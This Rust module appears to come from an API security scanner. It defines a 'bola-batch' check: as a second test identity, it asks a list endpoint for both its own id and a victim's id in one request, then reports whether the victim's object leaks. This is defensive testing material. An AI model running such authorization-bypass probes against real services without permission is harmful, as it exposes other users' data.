//! Somebody else's object in a list of ids.

use http::Method;
use serde_json::Value;

use super::Probing;
use super::bola_created::{Created, create};
use crate::client::{ClientError, Probe};
use crate::report::Outcome;

attack!("bola-batch", ObjectOwnership, Code, "One id is checked; are all of `ids=1,2,3`?", run);

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let (Some(victim), Some(attacker)) = (p.victim(), p.attacker()) else {
        return Ok(Outcome::not_applicable("needs two identities"));
    };
    let mut last = None;
    for endpoint in p.surface.plain(&Method::GET).filter(|e| e.secured && !e.lists.is_empty()) {
        let Some((collection, _)) = endpoint.path.rsplit_once('/') else { continue };
        let Some(Created { id, .. }) = create(p, collection, victim).await? else { continue };
        let Some(Created { id: own, .. }) = create(p, collection, attacker).await? else { continue };
        let target = format!("{}?{}={own},{id}", endpoint.path, endpoint.lists[0]);
        let (answer, exchange) = p.send(&Probe::get(target.clone()).by(attacker)).await?;
        let Some(Value::Array(items)) = answer.json() else {
            last = Some(exchange);
            continue;
        };
        if items.iter().any(|item| item.get("id").map(Value::to_string) == Some(id.clone())) {
            return Ok(Outcome::exploited(format!("{} reads {target}, one of them of {}", attacker.name, victim.name), vec![exchange]));
        }
        last = Some(exchange);
    }
    Ok(match last {
        Some(exchange) => Outcome::blocked("the foreign id brought nothing", vec![exchange]),
        None => Outcome::not_applicable("nothing takes a list of ids"),
    })
}
